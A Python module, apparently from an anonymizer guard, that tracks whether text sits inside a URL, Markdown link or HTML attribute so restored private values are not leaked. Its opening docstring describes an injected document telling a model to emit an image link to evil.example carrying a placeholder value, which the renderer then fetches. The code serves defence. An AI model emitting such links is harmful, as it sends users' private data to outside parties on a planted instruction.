"""
Where a text is part of a link: places where a restored value would be sent to a stranger.

A document can tell a model to write ``![](https://evil.example/?q=PERSON...)``; whoever shows the answer then fetches
it. Links and tags are followed side by side, because one renderer reads ``a <b https://evil.example/`` as a tag and the
next one as a link.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from hybrid_guard.anonymizer.tags import TagContext

__all__ = ["LinkContext", "is_host", "may_be_host"]

# Only where the next character, if it is known, can go on with a link: prose is full of colons and full stops.
# What separates the labels of a host name is read in several spellings (RFC 3490, 3.1).
_DOTS = ".\u3002\uff0e\uff61"
_TRIGGER = re.compile(rf":(?=[/\\]|\Z)|[{_DOTS}](?=[\w-]|\Z)|\](?=[(:]|\Z)|\((?<![^lL]\()")
_BLANKS = " \t\n\r\f\v"
_BLANK = re.compile(r"[ \t\n\r\f\v<]")
_WORD = re.compile(r"[\w-]")
_SLASHES = "/\\"
_STEM = 3

_State = Callable[["LinkContext", str], None]

_LABEL = r"[\w\u00ad\u200b-\u200f\u2060\ufeff-]"
_DOT, _DOT_BEGUN = rf"(?:\\?[{_DOTS}]|%2[eE])", r"(?:\\|%2?)"
_HOST = re.compile(rf"{_LABEL}{{0,253}}{_DOT}{_LABEL}{{1,63}}{_DOT}\w")
_HOST_BEGUN = re.compile(rf"{_LABEL}{{0,253}}(?:{_DOT}(?:{_LABEL}{{1,63}}(?:{_DOT}|{_DOT_BEGUN})?)?|{_DOT_BEGUN})?")


def is_host(text: str, place: int) -> bool:
    """
    Whether what ends at *place* is the beginning of a host name: ``.evil.example`` follows, or ``-x.evil.example``.

    A name needs no scheme to be looked up or made a link of. One dot is no host of a stranger, but the end of a
    sentence or of a file name.
    """
    return _HOST.match(text, place) is not None


def may_be_host(text: str, place: int) -> bool:
    """Whether the answer of `is_host` can change by what comes after *text*. Looks at no more than 400 characters."""
    return _HOST_BEGUN.fullmatch(text, place) is not None


class LinkContext:
    """
    Follows a text character by character, however it is cut into pieces.
    """

    __slots__ = ("_depth", "_escaped", "_linked", "_outer", "_state", "_stem", "_tags")

    def __init__(self) -> None:
        self._state: _State = LinkContext._plain
        self._stem = ""
        self._depth = 0
        self._escaped = False
        self._outer: _State = LinkContext._plain
        self._linked = False
        self._tags = TagContext()

    @property
    def inside(self) -> bool:
        """
        Whether the next character belongs to a link.

        That is a URL, a Markdown link or image target, the target of a link definition, a CSS ``url()`` or the value
        of an HTML attribute. Where renderers differ the answer is yes.
        """
        return self._linked or self._tags.inside

    def advance(self, text: str) -> None:
        """Read *text*."""
        self._tags.advance(text)
        place = 0
        while place < len(text):
            if self._state is LinkContext._plain:
                trigger = _TRIGGER.search(text, place)
                stop = len(text) if trigger is None else trigger.start()
                self._stem = (self._stem + text[max(place, stop - _STEM) : stop])[-_STEM:]
                if trigger is None:
                    return
                place = stop
            elif self._state is LinkContext._url:
                end = _BLANK.search(text, place)
                if end is None:
                    return
                place = end.start()
            self._state(self, text[place])
            self._stem = (self._stem + text[place])[-_STEM:]
            place += 1

    def _go(self, state: _State, *, linked: bool = False) -> None:
        self._state = state
        self._linked = linked

    def _again(self, char: str) -> None:
        self._go(LinkContext._plain)
        self._plain(char)

    def _plain(self, char: str) -> None:
        if char == ":":
            self._go(LinkContext._colon)
        elif char == "]":
            self._go(LinkContext._bracket)
        elif char == "(" and self._stem.casefold() == "url":
            self._open_target()
        elif char in _DOTS and self._stem.casefold() == "www":
            self._go(LinkContext._www, linked=True)
        elif char in _DOTS:
            self._depth = 0
            self._go(LinkContext._domain)

    def _colon(self, char: str) -> None:
        # Browsers read `https:\\host` like `https://host`.
        if char in _SLASHES:
            self._go(LinkContext._colon_slash)
        else:
            self._again(char)

    def _colon_slash(self, char: str) -> None:
        if char in _SLASHES:
            self._go(LinkContext._url, linked=True)
        else:
            self._again(char)

    def _domain(self, char: str) -> None:
        # Some renderers make a link of `evil.example/path` although it has no scheme.
        if char.isalnum() or char == "-":
            self._depth += 1
        elif char in "/?#:" and (self._depth > 1 or self._stem[-1:].isdigit()):
            self._go(LinkContext._url, linked=True)
        else:
            self._again(char)

    def _www(self, char: str) -> None:
        if _WORD.match(char):
            self._go(LinkContext._url, linked=True)
        else:
            self._again(char)

    def _url(self, char: str) -> None:
        if char in _BLANKS or char == "<":
            self._again(char)

    def _bracket(self, char: str) -> None:
        if char == "(":
            self._open_target()
        elif char == ":":
            self._go(LinkContext._definition)
        else:
            self._again(char)

    def _definition(self, char: str) -> None:
        # PRIVACY: a target may spell its slashes as references, so all of it counts once it has begun. A value that
        # begins one leads to no stranger: `[1]: Ada`.
        if char == "<":
            self._outer = LinkContext._plain
            self._go(LinkContext._angle_target, linked=True)
        elif char.isalnum() or char in "/\\&.?#%":
            self._go(LinkContext._url, linked=True)
        elif char not in _BLANKS:
            self._again(char)

    def _open_target(self) -> None:
        self._depth = 0
        self._escaped = False
        self._go(LinkContext._target_start, linked=True)

    def _target_start(self, char: str) -> None:
        if char == "<":
            self._outer = LinkContext._target
            self._go(LinkContext._angle_target, linked=True)
        elif char not in _BLANKS:
            self._go(LinkContext._target, linked=True)
            self._target(char)

    def _target(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif char == "(":
            self._depth += 1
        elif char == ")":
            self._depth -= 1
            if self._depth < 0:
                self._go(LinkContext._plain)
        elif self._ends_block(char):
            self._go(LinkContext._plain)

    def _angle_target(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif char in ">\n":
            self._go(self._outer, linked=self._outer is LinkContext._target)

    def _ends_block(self, char: str) -> bool:
        return char == "\n" and self._stem.rstrip(" \t\r").endswith("\n")
